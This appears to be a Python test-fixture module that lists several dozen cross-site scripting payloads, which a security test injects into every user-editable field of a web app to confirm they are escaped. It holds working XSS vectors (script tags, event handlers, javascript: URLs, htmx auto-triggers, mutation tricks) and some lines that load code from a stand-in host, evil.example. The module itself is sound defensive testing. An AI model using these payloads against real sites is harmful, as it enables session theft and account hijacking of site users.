"""Cross-site scripting payloads put into every user-editable field by tests/test_xss.py.

Each payload carries the placeholder ``{m}``, replaced by a marker unique to the field and the
payload (``xss007p12``). If a payload's markup ever reaches a page unescaped, the marker shows
up inside an element, an attribute name, an event handler, a script or a URL, which the HTML
audit in tests/security_support.py reports; the escaped text must still be on the page, so the
test cannot pass just because nothing was rendered.

No payload contains a line break (they are stored as paragraphs of an article body) or a NUL
(PostgreSQL refuses those in text).
"""

import re

MARKER = re.compile(r"xss\d{3}p\d{2}")

PAYLOADS = [
    # script elements
    '<script>alert("{m}")</script>',
    "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "\u2028\u2029<script>alert('{m}')</script>",
    # event handlers
    "<img src=x onerror=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<body onload=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<input onfocus=alert('{m}') autofocus>",
    "<marquee onstart=alert('{m}')>",
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<x onclick=alert('{m}')>unknown element</x>",
    # attribute breakouts
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    '" onmouseover="alert(\'{m}\')" x="',
    "' onfocus='alert(\"{m}\")' autofocus '",
    "\"><svg/onload=alert('{m}')>",
    "\" autofocus onfocus=alert('{m}') x=\"",
    # javascript: and data: URLs
    "javascript:alert('{m}')",
    " JaVaScRiPt:alert('{m}')",
    "java\tscript:alert('{m}')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}",
    "<a href=\"javascript:alert('{m}')\">click</a>",
    "<a href=\"&#106;avascript:alert('{m}')\">encoded</a>",
    "<a href=\"data:text/html,<script>alert('{m}')</script>\">data</a>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<form action=\"javascript:alert('{m}')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('{m}')\">go</button>",
    '<svg><a xlink:href="javascript:alert(\'{m}\')"><text y="20">x</text></a></svg>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    '<base href="//evil.example/{m}/">',
    # closing the element the text is rendered in
    "</script><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "--><script>alert('{m}')</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert('{m}')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<style>@import 'http://evil.example/{m}.css';</style>",
    # htmx attributes
    '<div hx-get="/admin/" hx-trigger="load" hx-target="body" id="{m}">',
    '<button hx-post="/accounts/logout/" hx-trigger="load" name="{m}">x</button>',
    "<div hx-on:click=\"alert('{m}')\">x</div>",
    "<div hx-on::load=\"alert('{m}')\">x</div>",
    '<div data-hx-get="//evil.example/{m}" data-hx-trigger="load">x</div>',
    '<div hx-vals=\'js:{a: alert("{m}")}\' hx-post="/">x</div>',
    # template and script syntax that must stay text
    "{{ request.user.password }} {m}",
    "{% debug %} {m}",
    "${alert('{m}')} #{alert('{m}')}",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    # Markdown that a renderer could turn into markup
    "[click](javascript:alert('{m}'))",
    "![x](x\" onerror=\"alert('{m}'))",
    # unicode tricks
    "\u202eevil\u202c <b>{m}</b>",
    "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e",
    "\U0001f600<img src=x onerror=alert('{m}')>\U0001f4a5",
    "jav&#x09;ascript:alert('{m}')",
    # spreadsheet formula, for exports
    '=HYPERLINK("http://evil.example/{m}","x")',
]


def marker(field_number: int, payload_number: int) -> str:
    return f"xss{field_number:03d}p{payload_number:02d}"


def payload(field_number: int, payload_number: int) -> str:
    return PAYLOADS[payload_number].replace("{m}", marker(field_number, payload_number))
